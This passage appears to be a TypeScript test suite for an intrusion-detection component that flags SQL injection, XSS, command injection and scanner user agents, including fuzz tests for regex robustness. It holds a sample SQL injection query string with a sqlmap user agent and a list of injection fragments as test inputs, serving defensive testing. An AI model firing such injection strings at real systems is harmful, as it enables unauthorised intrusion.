    const ev = req({ path: '/item', query: "id=1' OR '1'='1" }, {}, undefined, 'sqlmap/1.7.2#stable (https://sqlmap.org)');
    const a = new Detector().inspect(ev);
    const b = new Detector().inspect(JSON.parse(JSON.stringify(ev)) as EcsEvent);
    expect(ids(a)).toEqual(['http.scanner_user_agent', 'http.sql_injection']);
    expect(a.map((x) => x.event.id)).toEqual(b.map((x) => x.event.id));
    expect(new Set(a.map((x) => x.event.id)).size).toBe(2);
    for (const x of a) {
      expect(x.event.id).toBe(alertId(ev.event.id, x.rule.id));
      expect(x.event).toMatchObject({ kind: 'alert', dataset: 'alert', module: 'tlsdecrypt' });
      expect(x.event.category).toContain('intrusion_detection');
      expect(x['@timestamp']).toBe(ev['@timestamp']);
      expect(x.network.community_id).toBe(ev.network.community_id);
      expect(x).toMatchObject({ source: ev.source, destination: ev.destination, url: ev.url, user_agent: ev.user_agent, tls: ev.tls });
      expect(x.rule.ruleset).toBe('tlsdecrypt');
      expect(x.tags).toEqual(['Decryption Detection']);
      expect((x as Record<string, unknown>).detection).toMatchObject({ trigger_event_id: ev.event.id, trigger_dataset: 'http' });
    }
    expect(a.find((x) => x.rule.id === 'http.sql_injection')!.event.severity).toBe(3);
  });

  it('content alerts on undecrypted events carry no decryption tag; alerts are not re-inspected', () => {
    const ev = http({ http: { version: '1.1' }, url: { domain: '203.0.113.1', path: '/' } }, { decrypted: false });
    const d = new Detector();
    const a = d.inspect(ev);
    expect(a[0].tags).toBeUndefined();
    expect(d.inspect(a[0])).toEqual([]);
  });

  it('disabled rules do not run', () => {
    const d = new Detector({ disabled: ['http.numeric_host'] });
    expect(d.inspect(req({ path: '/', domain: '203.0.113.7' }))).toEqual([]);
  });
});

describe('random input never throws', () => {
  it('payload and name helpers', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 400 }), fc.string({ maxLength: 60 }), (s, h) => {
        for (const k of ['sqli', 'xss', 'cmdi'] as const) findPayload(k, { path: s, query: s, body: s, userAgent: s });
        normalizedForms(s);
        percentDecode(s, true);
        scannerOf(s);
        classifyMagic(s);
        dgaScore(h);
        dnsNameMatches(h, s);
        dnsNameMatches(s, h);
      }),
      { numRuns: 500 },
    );
  });

  it('payload signatures on token soup and long adversarial inputs (no catastrophic backtracking: these finish)', () => {
    const token = fc.constantFrom("'", '"', ' ', ')', '(', 'or ', 'and ', 'union', 'select', '/*', '*/', '--', '#', '<a', '<script', ' on', 'onerror', '=', ';', '|', '&&', '$(', '${', '`', '%25', '%27', '%3c', 'cat', 'id', 'eval(', 'javascript:', '\\');
    fc.assert(
      fc.property(fc.array(token, { maxLength: 400 }), (parts) => {
        const s = parts.join('');
        for (const k of ['sqli', 'xss', 'cmdi'] as const) findPayload(k, { path: s, query: s, body: s, userAgent: s });
      }),
      { numRuns: 300 },
    );
    const long = ['union/*' + '/*a*/'.repeat(1600), "'" + ' '.repeat(8000), "' )".repeat(2700), '<a on'.repeat(1600), '%25'.repeat(2700), '<a'.repeat(4000), '/*'.repeat(4000)];
    for (const s of long) for (const k of ['sqli', 'xss', 'cmdi'] as const) findPayload(k, { path: s, query: s, body: s, userAgent: s });
  });

  it('Detector.inspect on arbitrary JSON-shaped events', () => {
    const d = new Detector();
    const anyJson = fc.jsonValue({ maxDepth: 4 });
    fc.assert(
      fc.property(
        fc.constantFrom('http', 'tls.session', 'smtp', 'ftp', 'other', 5),
        anyJson,
        anyJson,
        anyJson,
        anyJson,
        (dataset, http, tls, url, x509) => {
          const ev = { '@timestamp': typeof url === 'string' ? url : '2027-01-01T00:00:00Z', event: { id: 'x', kind: 'event', dataset }, network: { community_id: typeof tls === 'string' ? tls : 'c' }, http, tls: { server: { x509 }, tls }, url, email: { attachments: http }, ftp: tls, smtp: http, source: url, destination: tls } as unknown as EcsEvent;
          expect(() => d.inspect(ev)).not.toThrow();
        },
      ),
      { numRuns: 500 },
    );
    expect(() => d.inspect({} as EcsEvent)).not.toThrow();
    expect(() => d.inspect(null as unknown as EcsEvent)).not.toThrow();
    expect(d.stats.ruleErrors).toBe(0);
  });

  it('parseTime gives Date.parse for every string of a sequence, however its few remembered strings come and go', () => {
    const texts = fc.oneof(
      fc.date({ min: new Date('1990-01-01'), max: new Date('2100-01-01'), noInvalidDate: true }).map((d) => d.toISOString()),
      fc.constantFrom('2026-12-04T18:51:52.579326Z', '2026-12-04T18:51:52.579327Z', 'not a date', '', '2027-01-03T18:51:50.000Z'),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(texts, { maxLength: 40 }), (seq) => {
        // fresh copies too: equal text in another string object
        for (const t of seq) for (const v of [t, (' ' + t).slice(1)]) expect(Object.is(parseTime(v), Date.parse(v))).toBe(true);
      }),
      { numRuns: 300 },
    );
    expect(Number.isNaN(parseTime(undefined))).toBe(true);
    expect(parseTime(0)).toBe(Date.parse('0'));
  });
});
